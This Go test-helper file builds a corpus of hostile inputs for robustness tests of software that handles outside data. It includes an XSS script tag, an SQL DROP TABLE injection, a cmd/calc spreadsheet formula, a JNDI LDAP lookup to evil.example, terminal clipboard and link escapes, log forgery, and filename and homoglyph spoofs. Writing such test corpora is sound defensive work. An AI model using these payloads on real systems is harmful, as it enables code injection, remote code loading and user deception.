package quarantinetest

import (
	"fmt"
	"strings"
)

// Hostile is one input that has broken software before.
type Hostile struct {
	// Name says what it is, in words that may stand in a test's name.
	Name string
	// Bytes is the input.
	Bytes string
}

// HostileBytes returns inputs for everything that stores, shows or sends what
// comes from outside. The largest has 10 MB and comes last.
func HostileBytes() []Hostile {
	every := make([]byte, 256)
	for i := range every {
		every[i] = byte(i)
	}
	return []Hostile{
		{"empty", ""},
		{"one byte", "x"},
		{"NUL", "a\x00b"},
		{"all byte values", string(every)},
		{"invalid UTF-8", "\xff\xfe\xfd"},
		{"overlong UTF-8", "\xc0\xaf"},
		{"truncated UTF-8", "abc\xe2\x82"},
		{"lone surrogate", "\xed\xa0\x80"},
		{"byte order mark", "\xef\xbb\xbf{}"},
		{"right to left override", "invoice\u202Egpj.exe"},
		{"zero width and homoglyph", "p\u200Bаypal"},
		{"terminal colours", "\x1b[31mred\x1b[0m"},
		{"terminal title and clipboard", "\x1b]0;owned\a\x1b]52;c;aGk=\a"},
		{"terminal link", "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\"},
		{"carriage return", "safe\rEVIL"},
		{"log forgery", "a\r\nlevel=ERROR msg=forged"},
		{"script", "<script>alert(1)</script>"},
		{"chat mention", "<!channel> <@U123> <https://evil.example|bank>"},
		{"formula", "=cmd|' /C calc'!A0"},
		{"template", "{{.Secret}} ${jndi:ldap://evil.example}"},
		{"SQL quotes", `'; DROP TABLE theriac.entry; --"$1 ? ?1 %s \`},
		{"JSON with NUL and a surrogate", `{"a":"\u0000\ud800","n":1e999999}`},
		{"deep JSON", strings.Repeat("[", 100_000)},
		{"10 MB", strings.Repeat("0123456789abcdef", 625_000)},
	}
}

// HostileAttributes returns 100 attributes of up to 1,024 bytes, among them
// every input of [HostileBytes] that is short enough, as key and as value.
func HostileAttributes() map[string]string {
	attributes := map[string]string{"goog-reserved": "x", "a.b.c": "dots", "": "empty key"}
	for _, h := range HostileBytes() {
		if len(h.Bytes) <= 1024 {
			attributes["value of "+h.Name] = h.Bytes
			attributes[h.Bytes] = "key"
		}
	}
	for i := len(attributes); i < 100; i++ {
		attributes[fmt.Sprintf("filler-%03d", i)] = strings.Repeat("v", 1024)
	}
	return attributes
}
